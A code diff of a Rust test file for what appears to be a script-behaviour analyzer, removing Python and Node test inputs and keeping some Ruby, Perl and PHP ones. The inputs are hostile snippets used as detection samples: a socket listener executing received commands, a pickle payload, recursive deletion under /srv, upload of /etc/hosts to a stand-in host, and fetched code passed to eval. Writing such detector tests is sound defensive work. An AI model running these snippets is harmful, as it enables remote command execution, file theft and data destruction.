@@ -6,25 +6,6 @@ use aegish_profiles::Lang;
 #[test]
 fn functions_are_followed_to_their_calls() {
     check(
-        Lang::Python,
-        &[
-            ("(lambda f: f('id'))(__import__('os').system)", &["shell id"]),
-            (
-                "import socket,os,threading\ndef h(c):\n  while True:\n    d=c.recv(99)\n    os.popen(d.decode())\ns=socket.socket();s.bind(('',99))\nwhile True:\n  c,a=s.accept()\n  threading.Thread(target=h,args=(c,)).start()",
-                &["listen  99", "received"],
-            ),
-            (
-                "import os\nclass A:\n  def __reduce__(self): return (os.system,('id',))\n",
-                &["shell id"],
-            ),
-            ("def a(x):\n  b(x)\ndef b(x):\n  a(x)\na(1)", &[]),
-            (
-                "import os\nclass A:\n    def run(self, c):\n        os.system(c)\nA().run('id')",
-                &["shell id"],
-            ),
-        ],
-    );
-    check(
         Lang::Ruby,
         &[
             ("def run(c) system(c) end; run('id')", &["shell id"]),
@@ -80,19 +61,6 @@ fn functions_are_followed_to_their_calls() {
 #[test]
 fn listings_keep_their_pattern() {
     check(
-        Lang::Python,
-        &[
-            (
-                "import glob,os\nfor f in glob.glob('/srv/log/*'): os.remove(f)",
-                &["list /srv/log/*", "delete /srv/log/*"],
-            ),
-            (
-                "import os, shutil\nfor d in os.listdir('/srv'): shutil.rmtree(os.path.join('/srv', d))",
-                &["list /srv", "tree /srv/*"],
-            ),
-        ],
-    );
-    check(
         Lang::Perl,
         &[
             ("map { unlink } glob('/srv/*')", &["list /srv/*", "delete /srv/*"]),
@@ -103,41 +71,10 @@ fn listings_keep_their_pattern() {
         Lang::Php,
         &[("array_map('unlink', glob('/srv/*'));", &["list /srv/*", "delete /srv/*"])],
     );
-    check(
-        Lang::Node,
-        &[(
-            "require('fs').readdirSync('.').forEach(f=>require('fs').unlinkSync(f))",
-            &["list .", "delete *"],
-        )],
-    );
 }
 
 #[test]
 fn content_keeps_its_source() {
-    check(
-        Lang::Python,
-        &[
-            (
-                "import urllib.request as r, urllib.parse as u\nr.urlopen('http://h.example', u.urlencode({'d': open('/etc/hosts').read()}).encode())",
-                &["read /etc/hosts", "send http://h.example <- /etc/hosts"],
-            ),
-            (
-                "import json,urllib.request\nd=json.load(urllib.request.urlopen('https://h.example/x'))\nprint(d['a'])",
-                &["fetch https://h.example/x"],
-            ),
-            (
-                "import subprocess\np=subprocess.Popen(['bash'],stdin=subprocess.PIPE)\np.communicate(b'id\\n')",
-                &["argv bash", "shell id\n"],
-            ),
-        ],
-    );
-    check(
-        Lang::Node,
-        &[(
-            "const h=require('https');h.get('https://h.example/x',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})",
-            &["fetch https://h.example/x", "received"],
-        )],
-    );
     check(
         Lang::Ruby,
         &[(
